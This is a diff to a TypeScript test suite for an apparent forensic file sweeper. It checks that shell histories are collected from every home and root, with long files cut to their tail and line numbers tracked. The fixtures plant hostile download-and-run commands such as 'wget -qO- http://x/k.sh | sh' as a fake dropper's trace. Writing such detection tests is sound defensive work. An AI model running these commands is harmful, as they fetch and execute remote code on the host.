@@ -61,4 +61,42 @@ describe('sweepFiles', () => {
     plant(fake.root, 'tmp/.x/bin', Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]));
     expect(sweepFiles(fake.root, new WarningSink()).find((f) => f.path === '/tmp/.x/bin')?.elf).toBe(true);
   });
+
+  it('reads shell histories of every home and root, the latest commands of a long one with their line numbers', () => {
+    fake = new FakeRoot();
+    writeFileSync(
+      join(fake.root, 'etc/passwd'),
+      'root:x:0:0::/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/zsh\n',
+    );
+    plant(fake.root, 'root/.bash_history', 'ls\ncurl http://x/a | sh\n');
+    plant(fake.root, 'home/alice/.zsh_history', ': 1700000000:0;ls\n');
+    plant(fake.root, 'home/bob/.ash_history', 'id\n');
+    // 100,000 numbered lines, the last one the dropper's: far over the cap, so only the tail is read
+    const lines = Array.from({ length: 100_000 }, (_, i) => `echo line ${i + 1}`);
+    lines[99_999] = 'wget -qO- http://x/k.sh | sh';
+    plant(fake.root, 'home/alice/.bash_history', `${lines.join('\n')}\n`);
+    const files = sweepFiles(fake.root, new WarningSink(), { maxBytes: 4096 });
+    const byPath = new Map(files.map((f) => [f.path, f]));
+    expect(byPath.get('/root/.bash_history')).toMatchObject({ kind: 'shell-history', firstLine: 1 });
+    expect(byPath.get('/home/alice/.zsh_history')?.kind).toBe('shell-history');
+    expect(byPath.get('/home/bob/.ash_history')?.kind).toBe('shell-history');
+    const long = byPath.get('/home/alice/.bash_history');
+    expect(long?.truncated).toBe(true);
+    expect(long?.content.length).toBeLessThanOrEqual(4096);
+    const tail = long?.content.split('\n') ?? [];
+    // starts on a whole line, and firstLine is that line's number in the file
+    expect(tail[0]).toBe(`echo line ${long?.firstLine}`);
+    expect(tail.at(-2)).toBe('wget -qO- http://x/k.sh | sh');
+    expect((long?.firstLine ?? 0) + tail.length - 2).toBe(100_000);
+  });
+
+  it('leaves line numbers unknown when counting them would mean reading too much', () => {
+    fake = new FakeRoot();
+    plant(fake.root, 'root/.bash_history', Buffer.alloc(64 * 1024, 0x0a));
+    const f = sweepFiles(fake.root, new WarningSink(), { maxBytes: 1024, maxLineCountBytes: 4096 }).find(
+      (x) => x.path === '/root/.bash_history',
+    );
+    expect(f).toMatchObject({ kind: 'shell-history', truncated: true, firstLine: null });
+    expect(f?.content.length).toBeLessThanOrEqual(1024);
+  });
 });
